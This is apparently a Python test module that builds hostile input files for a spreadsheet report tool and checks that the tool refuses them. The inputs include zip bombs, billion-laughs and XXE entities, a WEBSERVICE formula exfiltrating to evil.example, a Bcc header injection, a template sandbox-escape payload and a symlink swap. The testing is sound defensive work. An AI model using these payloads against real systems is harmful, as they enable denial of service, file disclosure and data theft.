"""Hostile and broken files, each built by code in a temporary folder (nothing binary is checked in).

A case starts from a small, valid input workbook (made with openpyxl) and rewrites one of its parts,
or it is a template, a folder layout or a command line.  The big ones are cheap to make: 4 GB of
spaces are one deflate block of 1 MiB of spaces repeated 4,096 times (each block ends with a full
flush, so it does not depend on what came before), written into a zip by hand with ZIP64 sizes.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

PROJECT_HEADER = ["项目名称", "资金需求（万元）", "总体绩效目标"]
INDICATOR_HEADER = ["项目名称", "一级指标", "二级指标", "三级指标", "指标值"]
ALLOCATION_HEADER = ["项目名称", "地市", "资金投入方向", "金额（万元）"]
SHEET1 = "xl/worksheets/sheet1.xml"  # 「项目」
SHARED = "xl/sharedStrings.xml"
MIB = 1 << 20


@dataclass
class Case:
    """A command to run in ``folder`` and what its output must say."""

    name: str
    folder: Path
    args: list[str]
    inputs: list[Path]
    expect: list[str]  # fragments of the output (all of them)
    exit_code: int = 1  # -1: 1 with a located message, or 0 with a safe build
    output: str = "out"  # the only folder the command may write into
    forbidden: list[str] = field(default_factory=list)  # fragments that must not appear
    prepare: list[str] | None = None  # a command run first (a build before a send)
    after_prepare: Callable[[], None] | None = None
    verify: Callable[[Path], list[str]] | None = None  # what is wrong with a build that succeeded


def base_workbook(path: Path, projects=None, indicators=None, extra: dict | None = None) -> Path:
    """A valid input workbook: 「项目」 first (sheet1.xml), 「指标」 second."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    sheets = {"项目": [PROJECT_HEADER, *(projects or [["甲项目", 100, "目标甲"]])],
              "指标": [INDICATOR_HEADER, *(indicators or [["甲项目", "产出指标", "数量指标", "培训次数", "≥2次"]])],
              **(extra or {})}
    for name, rows in sheets.items():
        ws = book.create_sheet(name)
        for row in rows:
            ws.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def rewrite(path: Path, changes: dict[str, bytes | Callable[[bytes], bytes]]) -> Path:
    """Rewrite parts of a zip in place: new bytes, or a function of the old ones."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    for name, change in changes.items():
        parts[name] = change(parts[name]) if callable(change) else change
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def add_cell(xml: bytes, row_xml: str) -> bytes:
    """Add a ``<row>`` at the end of a sheet's ``<sheetData>``."""
    return xml.replace(b"</sheetData>", row_xml.encode() + b"</sheetData>")


def set_cell_value(xml: bytes, ref: str, value: str) -> bytes:
    """Replace the number stored in cell ``ref`` (a numeric cell written by openpyxl)."""
    import re

    pattern = re.compile(rb'(<c r="' + ref.encode() + rb'"[^>]*?)(?: t="\w+")?(>)<v>[^<]*</v>')
    new, count = pattern.subn(lambda m: m.group(1) + m.group(2) + b"<v>" + value.encode() + b"</v>", xml)
    assert count == 1, f"{ref} not found"
    return new


# --- deflate streams made of repeated blocks -----------------------------------------------------

def _deflated(data: bytes) -> bytes:
    """``data`` as raw deflate ending with a full flush (byte-aligned, no back-references)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def _final_block() -> bytes:
    return zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)


@dataclass
class Stream:
    """A part given as deflate pieces, with its CRC and size computed as it is written."""

    head: bytes
    filler: bytes  # repeated ``times`` times
    times: int
    tail: bytes

    def pieces(self) -> Iterator[tuple[bytes, bytes]]:
        """(uncompressed, compressed) pieces; the filler's compressed form is computed once."""
        yield self.head, _deflated(self.head)
        block = _deflated(self.filler)
        for _ in range(self.times):
            yield self.filler, block
        yield self.tail, _deflated(self.tail) + _final_block()


def write_zip(path: Path, parts: dict[str, bytes | Stream], declared: dict[str, int] | None = None) -> Path:
    """A zip with ZIP64 sizes, written by hand; ``declared`` overrides a part's size in its headers
    (a zip that lies about what it holds)."""
    declared = declared or {}
    entries = []
    with path.open("wb") as out:
        for name, content in parts.items():
            stream = content if isinstance(content, Stream) else Stream(content, b"", 0, b"")
            offset = out.tell()
            encoded = name.encode()
            # local header with a ZIP64 extra field; sizes and CRC follow in a data descriptor
            extra = struct.pack("<HHQQ", 1, 16, 0, 0)
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0x08, 8, 0, 0x21, 0, 0xFFFFFFFF, 0xFFFFFFFF,
                                  len(encoded), len(extra)) + encoded + extra)
            crc, size, compressed = 0, 0, 0
            for plain, packed in stream.pieces():
                crc = zlib.crc32(plain, crc)
                size += len(plain)
                compressed += len(packed)
                out.write(packed)
            size = declared.get(name, size)
            out.write(struct.pack("<IIQQ", 0x08074B50, crc, compressed, size))
            entries.append((encoded, crc, compressed, size, offset))
        start = out.tell()
        for encoded, crc, compressed, size, offset in entries:
            extra = struct.pack("<HHQQQ", 1, 24, size, compressed, offset)
            out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0x08, 8, 0, 0x21, crc, 0xFFFFFFFF,
                                  0xFFFFFFFF, len(encoded), len(extra), 0, 0, 0, 0, 0xFFFFFFFF) + encoded + extra)
        end = out.tell()
        out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(entries), len(entries),
                              end - start, start))
        out.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    return path


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def whitespace_bomb(path: Path, gigabytes: float, lie: bool = False) -> Path:
    """``gigabytes`` of spaces inside 「项目」's ``<sheetData>``; with ``lie`` the zip declares 10 KB."""
    parts = parts_of(base_workbook(path))
    sheet = parts[SHEET1]
    cut = sheet.index(b"</sheetData>")
    times = int(gigabytes * 1024)
    parts[SHEET1] = Stream(sheet[:cut], b" " * MIB, times, sheet[cut:])
    return write_zip(path, parts, {SHEET1: 10_000} if lie else None)


def ratio_bomb(path: Path) -> Path:
    """A 64 MiB part of zeros that is never read, compressed about 1,000 to 1."""
    parts = parts_of(base_workbook(path))
    parts["xl/media/image1.bin"] = Stream(b"", b"\0" * MIB, 64, b"")
    return write_zip(path, parts)


BILLION_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]>")
_SST = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def with_shared_string(path: Path, text: bytes, prolog: bytes = b"") -> Path:
    """「项目」!C2 (总体绩效目标) as a shared string ``text`` (raw XML content of its ``<t>``)."""
    base_workbook(path)
    sst = (b'<?xml version="1.0" encoding="UTF-8"?>\n' + prolog
           + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           + b"<si><t>" + text + b"</t></si></sst>")
    return rewrite(path, {
        SHARED: sst,
        SHEET1: lambda xml: xml.replace(b'<c r="C2" t="inlineStr"><is><t>\xe7\x9b\xae\xe6\xa0\x87\xe7\x94\xb2</t></is></c>',
                                        b'<c r="C2" t="s"><v>0</v></c>'),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(
            b"</Relationships>", f'<Relationship Id="rIdS" Type="{_SST_REL}" Target="sharedStrings.xml"/>'
            .encode() + b"</Relationships>"),
        "[Content_Types].xml": lambda xml: xml.replace(
            b"</Types>", f'<Override PartName="/{SHARED}" ContentType="{_SST}"/>'.encode() + b"</Types>"),
    })


def billion_laughs(path: Path) -> Path:
    """Entities that expand to 10⁹ ``lol``s, in the shared string of a cell."""
    return with_shared_string(path, b"&lol9;", BILLION_LAUGHS)


def xxe(path: Path, secret: Path) -> Path:
    """An external entity that would read ``secret`` into a cell."""
    return with_shared_string(path, b"&xxe;", f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode())


def huge_shared_string(path: Path, size: int = 2 * MIB) -> Path:
    """One shared string (a cell's text) of ``size`` bytes that does not compress (so that no ratio
    gives it away): Excel's own limit is 32,767 characters."""
    import hashlib

    text = b"".join(hashlib.sha256(b"%d" % i).hexdigest().encode() for i in range(size // 64 + 1))
    return with_shared_string(path, text[:size])


def too_many_cells(path: Path, rows: int = 1_048_576, columns: int = 5) -> Path:
    """``rows`` × ``columns`` numeric cells (5.2 million): inside the area limit, over the cell limit."""
    parts = parts_of(base_workbook(path))
    sheet = parts[SHEET1]
    cut = sheet.index(b"</sheetData>")
    letters = "ABCDE"[:columns]
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    body = []
    for start in range(3, rows + 1, 50_000):
        chunk = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters) + "</row>"
                        for r in range(start, min(start + 50_000, rows + 1))).encode()
        body.append((chunk, compressor.compress(chunk)))
    body.append((b"", compressor.flush(zlib.Z_FULL_FLUSH)))

    class Cells(Stream):
        def pieces(self):
            yield self.head, _deflated(self.head)
            yield from body
            yield self.tail, _deflated(self.tail) + _final_block()

    parts[SHEET1] = Cells(sheet[:cut], b"", 0, sheet[cut:])
    return write_zip(path, parts)


# --- the cases: each builds its files in ``folder`` and says what to run and what to expect ------

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_CITIES = ROOT / "input" / "2020年度工业和信息化预留资金.xlsx"
SAMPLE_SELF_EVALUATION = ROOT / "input" / "2023年江门市工业发展管理经费绩效自评.xlsx"
TEMPLATE_CELL = ("绩效目标表.xlsx", "A2")  # the title: rendered once per file
INPUT = "in.xlsx"


def build_case(name: str, folder: Path, expect: list[str], exit_code: int = 1, **kwargs) -> Case:
    return Case(name, folder, ["build", INPUT, "-o", "out", "-j", "1"], [folder / INPUT], expect, exit_code, **kwargs)


def _far_cell(ref: str) -> Callable[[Path], Case]:
    def make(folder: Path) -> Case:
        row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
        path = base_workbook(folder / INPUT)
        rewrite(path, {SHEET1: lambda xml: add_cell(xml, f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>')})
        return build_case(f"cell {ref}", folder, [f"项目!{ref}：", "超过上限 6,000,000 个单元格"])
    return make


def _whitespace(lie: bool) -> Callable[[Path], Case]:
    def make(folder: Path) -> Case:
        whitespace_bomb(folder / INPUT, 4, lie=lie)
        expect = ["工作表「项目」", "连续文字或空白" if lie else "解压后为 4 GB，超过上限 512 MB"]
        return build_case("whitespace bomb", folder, expect)
    return make


def _file_case(maker: Callable[[Path], Path], *expect: str) -> Callable[[Path], Case]:
    def make(folder: Path) -> Case:
        maker(folder / INPUT)
        return build_case(maker.__name__, folder, list(expect))
    return make


def _xxe(folder: Path) -> Case:
    secret = folder / "secret.txt"
    secret.write_text("SECRET-7f3a9c", encoding="utf-8")
    xxe(folder / INPUT, secret)
    return build_case("xxe", folder, ["xl/sharedStrings.xml", "实体攻击"], forbidden=["SECRET-7f3a9c"])


def edited_templates(folder: Path, text: str, template: str = TEMPLATE_CELL[0], cell: str = TEMPLATE_CELL[1]) -> Path:
    import shutil

    from openpyxl import load_workbook

    target = folder / "tpl"
    shutil.copytree(ROOT / "templates", target)
    book = load_workbook(target / template)
    book.active[cell] = text
    book.save(target / template)
    return target


def _template(text: str, *expect: str) -> Callable[[Path], Case]:
    def make(folder: Path) -> Case:
        base_workbook(folder / INPUT)
        edited_templates(folder, text)
        case = build_case(f"template {text}", folder, [f"{TEMPLATE_CELL[0]}!", f"!{TEMPLATE_CELL[1]}", *expect])
        case.args += ["--templates", "tpl"]
        return case
    return make


def _nan(folder: Path) -> Case:
    path = base_workbook(folder / INPUT)
    rewrite(path, {SHEET1: lambda xml: set_cell_value(xml, "B2", "NaN")})
    return build_case("NaN amount", folder, ["项目!B2：", "「NaN」"])


def _overflow(folder: Path) -> Case:
    base_workbook(folder / INPUT, projects=[["甲项目", 1e308, "目标甲"], ["乙项目", 1e308, "目标乙"]],
                  indicators=[["甲项目", "产出指标", "数量指标", "培训次数", "≥2次"],
                              ["乙项目", "产出指标", "数量指标", "培训次数", "≥2次"]])
    return build_case("1e308 twice", folder, ["项目!B"], forbidden=["RuntimeWarning", "绩效目标表.xlsx!"])


# --- cases whose fix lies outside the workbook readers ----------------------------------------------

def _copy_sample(folder: Path, sample: Path, change: Callable | None = None) -> Path:
    from openpyxl import load_workbook

    book = load_workbook(sample)
    if change is not None:
        change(book)
    path = folder / INPUT
    book.save(path)
    return path


def _formula_injection(folder: Path) -> Case:
    def change(book) -> None:
        book["自评信息"].append(["等级划分", '优"&WEBSERVICE("http://evil.example/?leak")&"≥90；差'])

    _copy_sample(folder, SAMPLE_SELF_EVALUATION, change)
    # a located refusal of the grade text, or a build whose formulas hold it only as a quoted string
    return build_case("formula injection", folder, [], exit_code=-1,
                      verify=lambda out: formulas_calling(out, "WEBSERVICE"))


def formulas_calling(folder: Path, function: str) -> list[str]:
    """Formulas of the workbooks under ``folder`` that call ``function`` outside a string literal."""
    import html
    import re

    found = []
    for path in sorted(folder.rglob("*.xlsx")):
        for name, data in parts_of(path).items():
            if not name.startswith("xl/worksheets/"):
                continue
            for formula in re.findall(rb"<f[^>]*>([^<]*)</f>", data):
                code = re.sub(r'"(?:[^"]|"")*"', '""', html.unescape(formula.decode()))
                if function.upper() in code.upper():
                    found.append(f"{path.name}: ={html.unescape(formula.decode())}")
    return found


def _dotdot_stem(folder: Path) -> Case:
    base_workbook(folder / "...xlsx")
    (folder / "地市").mkdir()
    (folder / "地市" / "keep.xlsx").write_bytes(b"a file of the user's")
    return Case("...xlsx", folder, ["build", "./...xlsx", "-o", "out", "-j", "1"], [folder / "...xlsx"], [], -1)


def _cities(names: list[str], label: str) -> Callable[[Path], Case]:
    def make(folder: Path) -> Case:
        def change(book) -> None:
            sheet = book["资金分配"]
            for offset, name in enumerate(names):
                sheet.cell(4 + offset, 1).value = name

        _copy_sample(folder, SAMPLE_CITIES, change)
        return build_case(label, folder, ["资金分配!A4", "资金分配!A5"] if len(names) > 1 else [], exit_code=-1)
    return make


def _crashing_worker(folder: Path) -> Case:
    base_workbook(folder / "崩溃.xlsx")
    base_workbook(folder / "正常.xlsx")
    fault = folder / "fault"
    fault.mkdir()
    # fault injection: reading 崩溃.xlsx kills the worker with a signal, as a crash in a native library would
    (fault / "sitecustomize.py").write_text(
        "import os, signal\n"
        "import xlreports.validate as v\n"
        "_read = v.read_input\n"
        "def read_input(path, problems=None):\n"
        "    if path.name == '崩溃.xlsx':\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "    return _read(path, problems)\n"
        "v.read_input = read_input\n", encoding="utf-8")
    return Case("crashing worker", folder, ["build", "崩溃.xlsx", "正常.xlsx", "-o", "out", "-j", "2"],
                [folder / "崩溃.xlsx", folder / "正常.xlsx"], ["崩溃.xlsx", "正常.xlsx"], 1,
                forbidden=["BrokenProcessPool"])


def _terminal_escapes(folder: Path) -> Case:
    """A project name with a screen-clearing escape sequence and a bell (written raw into the XML:
    openpyxl refuses control characters), named again in an error message (it is there twice)."""
    path = base_workbook(folder / INPUT, projects=[["甲PLACEHOLDER项目", 100, "目标甲"], ["甲PLACEHOLDER项目", 5, "目标乙"]],
                         indicators=[["乙项目", "产出指标", "数量指标", "培训次数", "≥2次"]])
    rewrite(path, {SHEET1: lambda xml: xml.replace(b"PLACEHOLDER", b"\x1b[2J\x1b[31m\x07")})
    return build_case("ESC/BEL in a name", folder, [], exit_code=-1, forbidden=["\x1b", "\x07"])


def _bcc(folder: Path) -> Case:
    def change(book) -> None:
        book["收件人"].cell(2, 3).value = "Bcc:evil@evil.example"

    _copy_sample(folder, SAMPLE_CITIES, change)
    return build_case("Bcc: in an address", folder, ["收件人!C2"])  # refused by the build, before any send


def _symlinked_city_file(folder: Path) -> Case:
    _copy_sample(folder, SAMPLE_CITIES)
    victim = folder / "victim.xlsx"
    victim.write_bytes(b"not to be touched")
    return Case("symlinked 地市 file", folder, ["build", INPUT, "-o", "out", "-j", "1"], [folder / INPUT, victim],
                [], -1, prepare=["build", INPUT, "-o", "out", "-j", "1"],
                after_prepare=lambda: _replace_with_link(folder / "out" / "in" / "地市" / "广州.xlsx", victim))


def _replace_with_link(path: Path, target: Path) -> None:
    path.unlink()
    path.symlink_to(target)


def _city_text_patch(folder: Path, raw: bytes, label: str) -> Case:
    """资金分配!A4 holding bytes openpyxl would refuse to write (a NUL)."""
    path = _copy_sample(folder, SAMPLE_CITIES, lambda book: setattr(book["资金分配"].cell(4, 1), "value", "PLACEHOLDER"))
    parts = parts_of(path)
    part = next(name for name, data in parts.items() if name.startswith("xl/worksheets/") and b"PLACEHOLDER" in data)
    rewrite(path, {part: parts[part].replace(b"PLACEHOLDER", raw)})
    return build_case(label, folder, [], exit_code=-1)


def _import_far_cell(folder: Path) -> Case:
    case = _far_cell("XFD1048576")(folder)
    return Case("import a far cell", folder, ["import", INPUT, "-o", "out/导入.xlsx"], case.inputs, case.expect)


def _check_billion_laughs(folder: Path) -> Case:
    billion_laughs(folder / INPUT)
    return Case("check billion laughs", folder, ["check", INPUT], [folder / INPUT], ["xl/sharedStrings.xml", "实体攻击"])


def _template_file_bomb(folder: Path) -> Case:
    """A template (passed around like any workbook) whose sheet has a cell at XFD1048576."""
    base_workbook(folder / INPUT)
    templates = edited_templates(folder, "{{ info.标题 or '绩效目标表' }}")
    rewrite(templates / TEMPLATE_CELL[0], {SHEET1: lambda xml: add_cell(
        xml, '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')})
    case = build_case("template with a far cell", folder, [f"模板 {TEMPLATE_CELL[0]}", "XFD1048576", "超过上限"])
    case.args += ["--templates", "tpl"]
    return case


def _docx_entities(folder: Path) -> Case:
    """A Word document (xlreports import reads tables from .docx) whose body expands entities."""
    body = (b'<?xml version="1.0" encoding="UTF-8"?>' + BILLION_LAUGHS
            + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            + b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
    path = folder / "表格.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("word/document.xml", body)
    return Case("docx billion laughs", folder, ["import", path.name, "-o", "out/导入.xlsx"], [path],
                ["word/document.xml", "实体攻击"])


CASES: dict[str, Callable[[Path], Case]] = {
    "cell-XFD1048576": _far_cell("XFD1048576"),
    "cell-GZ1048576": _far_cell("GZ1048576"),
    "whitespace-bomb-4GB": _whitespace(lie=False),
    "whitespace-bomb-4GB-lying-size": _whitespace(lie=True),
    "zip-bomb-ratio": _file_case(ratio_bomb, "xl/media/image1.bin", "压缩炸弹"),
    "billion-laughs": _file_case(billion_laughs, "xl/sharedStrings.xml", "实体攻击"),
    "xxe": _xxe,
    "huge-shared-string": _file_case(huge_shared_string, "xl/sharedStrings.xml", "连续文字或空白"),
    "too-many-cells": _file_case(too_many_cells, "项目", "5,242,876 个非空单元格", "超过上限 4,000,000"),
    "xlsb-cell-XFD1048576": lambda folder: Case(
        "xlsb far cell", folder, ["build", "in.xlsb", "-o", "out", "-j", "1"], [xlsb_far_cell(folder / "in.xlsb")],
        ["!XFD1048576：", "超过上限 6,000,000 个单元格"]),
    "ods-repeated-cells": lambda folder: Case(
        "ods repeated cells", folder, ["build", "in.ods", "-o", "out", "-j", "1"],
        [ods_repeated(folder / "in.ods", 1_048_575, 16_384)], ["项目!XFD1048576：", "超过上限 6,000,000 个单元格"]),
    "import-cell-XFD1048576": _import_far_cell,
    "import-docx-billion-laughs": _docx_entities,
    "check-billion-laughs": _check_billion_laughs,
    "template-file-far-cell": _template_file_bomb,
    "template-huge-integer": _template("{{ 10**(10**9) }}", "超过上限 100,000 位"),
    "template-huge-string": _template("{{ 'a'*3*10**9 }}", "超过上限 1,000,000"),
    "template-endless-loop": _template(
        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}x", "计算超过 5 秒仍未完成"),
    "template-sandbox-escape": _template("{{ ''.__class__.__mro__[1].__subclasses__() }}", "模板不允许访问"),
    "nan-amount": _nan,
    "overflow-1e308-twice": _overflow,
    "formula-injection-grades": _formula_injection,
    "stem-dotdot": _dotdot_stem,
    "cities-A_B-and-A/B": _cities(["A_B", "A/B"], "A_B and A/B"),
    "crashing-worker-j2": _crashing_worker,
    "city-120-characters": _cities(["广" * 120], "120-character city"),
    "city-with-NUL": lambda folder: _city_text_patch(folder, "广州\x00市".encode(), "NUL in a city"),
    "ESC-BEL-in-names": _terminal_escapes,
    "Bcc-in-address": _bcc,
    "symlinked-city-file": _symlinked_city_file,
    "CON-and-NUL.txt": _cities(["CON", "NUL.txt"], "Windows-reserved names"),
}


def _record(kind: int, payload: bytes) -> bytes:
    def number(value: int) -> bytes:
        out = bytearray()
        while True:
            byte, value = value & 0x7F, value >> 7
            out.append(byte | (0x80 if value else 0))
            if not value:
                return bytes(out)

    return number(kind) + number(len(payload)) + payload


def xlsb_far_cell(path: Path, row: int = 1_048_575, column: int = 16_383) -> Path:
    """An .xlsb whose worksheet has one number at row ``row``, column ``column`` (0-based)."""
    import struct

    records = (_record(129, b"") + _record(145, b"")  # BrtBeginSheet, BrtBeginSheetData
               + _record(0, struct.pack("<I", 0) + bytes(13)) + _record(5, struct.pack("<IId", 0, 0, 1.0))
               + _record(0, struct.pack("<I", row) + bytes(13)) + _record(5, struct.pack("<IId", column, 0, 1.0))
               + _record(146, b"") + _record(130, b""))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("xl/workbook.bin", _record(131, b"") + _record(132, b""))
        archive.writestr("xl/worksheets/sheet1.bin", records)
    return path


def ods_repeated(path: Path, rows: int, columns: int) -> Path:
    """An .ods with one row of ``columns`` repeated numbers, repeated ``rows`` times: a few hundred bytes."""
    content = ('<?xml version="1.0" encoding="UTF-8"?>'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="项目">'
               '<table:table-row><table:table-cell office:value-type="string"><text:p>项目名称</text:p></table:table-cell>'
               '</table:table-row>'
               f'<table:table-row table:number-rows-repeated="{rows}">'
               f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="1">'
               '<text:p>1</text:p></table:table-cell><table:table-cell table:number-columns-repeated="1000"/></table:table-row>'
               '<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row>'
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return path
